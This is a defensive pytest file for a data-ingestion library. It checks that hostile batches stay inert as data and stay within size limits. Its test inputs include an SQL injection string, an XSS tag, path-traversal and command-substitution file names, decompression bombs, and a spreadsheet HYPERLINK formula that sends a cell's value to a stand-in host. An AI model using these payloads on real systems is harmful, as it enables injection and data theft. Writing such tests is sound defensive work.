"""A hostile batch does no harm: its content stays data, and its demands stay below the limits."""

import gzip
import json
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from outcross.assets.corpus.ledger.ledger import read_version
from outcross.assets.corpus.open_corpus import OpenCorpus, open_corpus
from outcross.assets.export import FORMATS
from outcross.assets.export.corpus import describe_version
from outcross.resources.store import Store
from outcross.resources.warehouse import query
from tests.assets.corpus.test_ingest import AT, ROWS, corpus_settings, quarantined, take

SQL = 'x"; DROP VIEW ledger; --'
FORMULA, HTML = '=HYPERLINK("http://192.0.2.1/?"&A1)', "<img src=x onerror=alert(1)>"


@pytest.fixture
def people(tmp_path: Path) -> OpenCorpus:
    return open_corpus(corpus_settings(tmp_path, mode="observe"), Store(tmp_path / "data"), by="test", at=AT)


def below(folder: Path) -> set[Path]:
    """List every file below a folder, without the store's own."""
    return {path for path in folder.rglob("*") if path.is_file() and "corpora" not in path.parts}


@pytest.mark.parametrize(
    "name", ["..csv", "...%2f..%2fpasswd.csv", "a\nb.csv", "$(touch gone).csv", "'\"; --.csv", "\u202efdp.csv"]
)
def test_a_path_in_a_file_name_is_not_followed(people: OpenCorpus, tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_bytes(ROWS[4_000:4_010].write_csv().encode())
    before = below(tmp_path)
    found = take(people, path)
    assert below(tmp_path) == before
    assert found.batch
    inside = people.files.list(f"batches/{found.batch}")
    assert {each.rsplit("/", 1)[-1].split(".")[0].split("-")[0] for each in inside} <= {
        "original",
        "admitted",
        "quarantined",
        "refused",
    }


@pytest.mark.parametrize("name", ["../../gone", "/etc/passwd", SQL, HTML, FORMULA, "a" * 10_000, "\x00"])
def test_a_column_outside_the_schema_is_not_ingested(people: OpenCorpus, tmp_path: Path, name: str) -> None:
    rows = ROWS[4_000:4_400].unique(maintain_order=True).with_columns(pl.lit(1).alias(name))
    before = below(tmp_path)
    found = take(people, tmp_path / "batch.parquet", rows)
    assert (found.status, found.rows_admitted) == ("admitted", rows.height)
    assert below(tmp_path) == before | {tmp_path / "batch.parquet"}
    admitted = pl.read_parquet(people.files.location(read_version(people.files).parts[-1].path))
    assert name not in admitted.columns
    assert query(people.store, "select count(*) from ledger").item() == 2


@pytest.mark.parametrize("text", [FORMULA, HTML, SQL])
def test_the_text_of_a_cell_stays_text(people: OpenCorpus, tmp_path: Path, text: str) -> None:
    rows = ROWS[4_000:4_400].unique(maintain_order=True)
    rows = rows.with_columns(pl.when(pl.int_range(pl.len()) == 7).then(pl.lit(text)).otherwise("race").alias("race"))
    path = tmp_path / "batch.csv"
    rows.write_csv(path)
    assert take(people, path, generator=text).rows_in == rows.height
    found = query(people.store, "select race from corpus_people.rows where version = 2 and batch <> 'anchor'")
    assert text in found["race"].to_list()
    version = read_version(people.files)
    page = FORMATS["card"].write(describe_version(version, people.schema, store=people.files))
    assert HTML not in page


@pytest.mark.parametrize(
    ("limits", "reason"),
    [
        ({"bytes": 1_000}, "'limits: bytes'"),
        ({"rows": 100}, "'limits: rows'"),
        ({"text_bytes": 10_000}, "holds more than 10,000 bytes of text"),
    ],
)
def test_a_file_beyond_a_limit_is_refused_with_the_limit(tmp_path: Path, limits: dict[str, int], reason: str) -> None:
    people = open_corpus(corpus_settings(tmp_path, limits=limits), Store(tmp_path / "data"), by="test", at=AT)
    path = tmp_path / "batch.csv"
    ROWS[4_000:5_000].write_csv(path)
    found = take(people, path)
    assert found.status == "refused"
    assert reason in found.reasons[0]


def test_a_file_that_unpacks_to_a_thousand_times_its_size_is_refused_before_unpacking(tmp_path: Path) -> None:
    people = open_corpus(
        corpus_settings(tmp_path, limits={"text_bytes": 2**20, "unpacked_bytes": 2**20}),
        Store(tmp_path / "data"),
        by="test",
        at=AT,
    )
    packed, columns = tmp_path / "bomb.csv.gz", tmp_path / "bomb.parquet"
    packed.write_bytes(gzip.compress(ROWS[:1].write_csv().encode() + b"0" * 2**26))
    pl.DataFrame({name: ["0" * 1_000] * 200_000 for name in ROWS.columns}).write_parquet(columns, compression="zstd")
    for bomb in (packed, columns):
        assert bomb.stat().st_size < 2**20
        found = take(people, bomb)
        assert found.status == "refused", bomb
        assert "1,048,576 bytes" in found.reasons[0]


@pytest.mark.parametrize(
    "claims", [{"rows": 10**12}, {"bytes": 1}, {"sha256": "0" * 64}, {"rows": 400, "bytes": 2**63 - 1}]
)
def test_provenance_that_contradicts_its_file_holds_the_batch(
    people: OpenCorpus, tmp_path: Path, claims: dict[str, Any]
) -> None:
    path = tmp_path / "batch.parquet"
    path.with_name("batch.parquet.provenance.json").write_text(json.dumps(claims))
    found = take(people, path, ROWS[4_000:4_400])
    assert found.status == "held"
    assert any("its provenance states" in reason for reason in found.reasons)
    assert quarantined(people, found).height == 400


@pytest.mark.parametrize(
    "content", [b"[" * 100_000, b'{"rows": 1e999}', b'{"origin": ["real"]}', b"\xff" * 40, b"{" + b" " * 2**21 + b"}"]
)
def test_a_file_with_unreadable_provenance_is_refused_and_recorded(
    people: OpenCorpus, tmp_path: Path, content: bytes
) -> None:
    path = tmp_path / "batch.parquet"
    path.with_name("batch.parquet.provenance.json").write_bytes(content)
    found = take(people, path, ROWS[4_000:4_400])
    assert found.status == "refused"
    assert "provenance" in found.reasons[0]
    assert people.files.exists(f"batches/{found.batch}/refused.json")
